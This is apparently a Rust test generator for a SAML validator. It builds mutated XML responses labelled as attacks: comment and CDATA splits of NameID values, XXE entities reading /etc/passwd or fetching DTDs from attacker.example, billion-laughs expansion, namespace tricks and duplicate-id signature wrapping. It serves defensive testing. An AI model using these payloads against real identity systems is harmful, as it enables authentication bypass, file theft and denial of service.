//! Differences between readers: markup inside of values, entities, namespaces, ids in several spellings.

use vestibule::saml::Reason;

use crate::{
    edit::{all, append, attributes, before, content, first, get, prefix, prepend, prolog, set, splice, tag, unset},
    world::{Attack, Base},
};

pub fn attacks(base: &Base) -> Vec<Attack> {
    let mut attacks = Vec::new();
    let mut add = |name: String, xml: String, reason| attacks.push(Attack::new(name, xml, reason));
    values(base, &mut add);
    document_types(base, &mut add);
    namespaces(base, &mut add);
    ids(base, &mut add);
    well_formedness(base, &mut add);
    attacks
}

type Add<'a> = dyn FnMut(String, String, Reason) + 'a;

/// CVE-2017-11427 and after: what cuts a value in two for one reader and not for another.
fn values(base: &Base, add: &mut Add<'_>) {
    for local in ["NameID", "AttributeValue", "Audience", "DigestValue", "SignatureValue", "Issuer"] {
        let element = first(&base.xml, local);
        let middle = element.inner_start + 3;
        for (what, text) in [
            ("a comment", "<!---->"),
            ("a longer comment", "<!-- .evil.example -->"),
            ("a processing instruction", "<?x y?>"),
            ("a CDATA section", "<![CDATA[]]>"),
        ] {
            let xml = splice(&base.xml, middle, middle, text);
            add(format!("{what} in {local}"), xml, Reason::Markup);
        }
    }
    let name = &base.xml[first(&base.xml, "NameID").inner_start..first(&base.xml, "NameID").inner_end];
    let cdata = content(&base.xml, "NameID", &format!("<![CDATA[{name}]]>"));
    add("the whole NameID as CDATA".to_owned(), cdata, Reason::Markup);
    for (place, xml) in [
        ("before the root", prolog(&base.xml, "<!-- x -->")),
        ("after the root", format!("{}<!-- x -->", base.xml)),
        ("in the signature", prepend(&base.xml, "SignedInfo", "<!-- x -->")),
    ] {
        add(format!("a comment {place}"), xml, Reason::Markup);
    }
    add("an instruction before the root".to_owned(), prolog(&base.xml, "<?xml-stylesheet href='x'?>"), Reason::Markup);
}

/// CVE-2025-25291, external entities and entities that grow.
fn document_types(base: &Base, add: &mut Add<'_>) {
    let laughs: String =
        (1..10).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let declarations = [
        ("an empty document type", "<!DOCTYPE Response>".to_owned()),
        ("in lower case", "<!doctype Response>".to_owned()),
        ("an external one", "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\">".to_owned()),
        ("a file as entity", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>".to_owned()),
        ("a parameter entity", "<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://attacker.example/x\"> %x;]>".to_owned()),
        ("a billion laughs", format!("<!DOCTYPE r [<!ENTITY l0 \"lol\">{laughs}]>")),
        ("quadratic growth", format!("<!DOCTYPE r [<!ENTITY x \"{}\">]>", "x".repeat(50_000))),
        ("default attributes", "<!DOCTYPE r [<!ATTLIST Assertion ID CDATA \"_evil\">]>".to_owned()),
        ("a string that looks like an end", "<!DOCTYPE r [<!ENTITY x \"]><r>\">]>".to_owned()),
    ];
    for (what, declaration) in declarations {
        add(format!("document type: {what}"), prolog(&base.xml, &declaration), Reason::Dtd);
    }
    for (what, xml) in [
        ("in the NameID", content(&base.xml, "NameID", "&x;")),
        ("in an id", set(&base.xml, "Assertion", "ID", "&x;")),
        ("in a reference", set(&base.xml, "Reference", "URI", "#&x;")),
        ("of HTML", content(&base.xml, "NameID", "a&nbsp;b")),
    ] {
        add(format!("an entity {what}"), xml, Reason::Dtd);
    }
    add("a document type inside".to_owned(), before(&base.xml, "Status", "<!DOCTYPE r>"), Reason::Dtd);
    add("an entity declared inside".to_owned(), before(&base.xml, "Status", "<!ENTITY x 'y'>"), Reason::Dtd);
}

/// CVE-2025-25292, CVE-2025-66567 and CVE-2025-66568.
fn namespaces(base: &Base, add: &mut Add<'_>) {
    for (what, declaration) in [
        ("a relative one", "xmlns:evil=\"1\""),
        ("a relative path", "xmlns:evil=\"../x\""),
        ("none for a prefix", "xmlns:evil=\"\""),
        ("xml declared", "xmlns:xml=\"http://www.w3.org/XML/1998/namespace\""),
        ("xml declared as another", "xmlns:xml=\"urn:x\""),
        ("xmlns declared", "xmlns:xmlns=\"http://www.w3.org/2000/xmlns/\""),
        ("another prefix for xml", "xmlns:evil=\"http://www.w3.org/XML/1998/namespace\""),
        ("no URI", "xmlns:evil=\"http://www.w3.org/2\u{301}001/x\""),
        ("a bad escape", "xmlns:evil=\"urn:x%zz\""),
        ("a bad port", "xmlns:evil=\"http://x:y/\""),
        ("white space in it", "xmlns:evil=\"urn:x y\""),
    ] {
        for local in ["Response", "Assertion", "SignedInfo"] {
            let xml = attributes(&base.xml, local, declaration);
            add(format!("namespace on {local}: {what}"), xml, Reason::Malformed);
        }
    }
    add("an undeclared prefix".to_owned(), before(&base.xml, "Status", "<nobody:x/>"), Reason::Malformed);
    add("two colons".to_owned(), attributes(&base.xml, "Response", "a:b:c=\"\""), Reason::Malformed);
    let twice = "xmlns:a=\"urn:a\" xmlns:b=\"urn:a\" a:x=\"1\" b:x=\"2\"";
    add("one attribute under two prefixes".to_owned(), attributes(&base.xml, "Response", twice), Reason::Malformed);
    let own = prefix(&base.xml, "Assertion").trim_end_matches(':').to_owned();
    let name = if own.is_empty() { "xmlns".to_owned() } else { format!("xmlns:{own}") };
    let element = first(&base.xml, "AttributeStatement");
    let rebound = tag(&base.xml, element, &format!("{name}=\"urn:evil\""));
    let reason = Reason::Digest;
    add("the prefix of the statement bound to another".to_owned(), rebound, reason);
}

/// Ids in other spellings on signed and unsigned elements.
fn ids(base: &Base, add: &mut Add<'_>) {
    let assertion = base.draft.assertion_id.as_str();
    for local in ["Response", "Assertion"] {
        for spelling in ["Id", "id", "iD", "xml:id"] {
            let xml = attributes(&base.xml, local, &format!("{spelling}=\"_evil\""));
            add(format!("{spelling} beside the ID of {local}"), xml, Reason::DuplicateId);
        }
        let prefixed = attributes(&base.xml, local, "xmlns:x=\"urn:x\" x:ID=\"_evil\"");
        add(format!("x:ID beside the ID of {local}"), prefixed, Reason::DuplicateId);
    }
    for (local, spelling) in [("Status", "ID"), ("Status", "xml:id"), ("Subject", "Id"), ("SignedInfo", "Id")] {
        let xml = attributes(&base.xml, local, &format!("{spelling}=\"{assertion}\""));
        add(format!("the assertion's id as {spelling} of {local}"), xml, Reason::DuplicateId);
    }
    let same = base.xml.replace(&format!(" ID=\"{assertion}\""), &format!(" ID=\"{}\"", base.draft.response_id));
    add("one id for both".to_owned(), same, Reason::DuplicateId);
    let far = attributes(&base.xml, "AttributeStatement", &format!("Id=\"{}\"", base.draft.response_id));
    add("the response's id far away".to_owned(), far, Reason::DuplicateId);
    for local in ["Response", "Assertion"] {
        add(format!("no ID attribute on {local}"), unset(&base.xml, local, "ID"), Reason::Structure);
    }
    add("no id on the response".to_owned(), set(&base.xml, "Response", "ID", ""), Reason::Structure);
    add("no id on the assertion".to_owned(), set(&base.xml, "Assertion", "ID", ""), Reason::Structure);
    assert!(!get(&base.xml, "Assertion", "ID").is_empty());
}

fn well_formedness(base: &Base, add: &mut Add<'_>) {
    let xml = &base.xml;
    let cut = xml.len() - 5;
    for (what, xml) in [
        ("an attribute twice", attributes(xml, "Response", "Version=\"2.0\"")),
        ("a bare ampersand", content(xml, "NameID", "a & b")),
        ("an end without a start", append(xml, "Status", "</x>")),
        ("text before the root", prolog(xml, "x")),
        ("text after the root", format!("{xml}x")),
        ("another root", format!("{xml}<x/>")),
        ("the end cut off", xml[..cut].to_owned()),
        ("a control character", content(xml, "NameID", "a\u{1}b")),
        ("a reference to a control character", content(xml, "NameID", "a&#1;b")),
        ("a reference to half a character", content(xml, "NameID", "a&#xD800;b")),
        ("a reference beyond all characters", content(xml, "NameID", "a&#x110000;b")),
        ("an angle bracket in an attribute", attributes(xml, "Response", "x=\"<\"")),
    ] {
        add(what.to_owned(), xml, Reason::Malformed);
    }
    assert_eq!(all(xml, "Assertion").len(), 1);
}
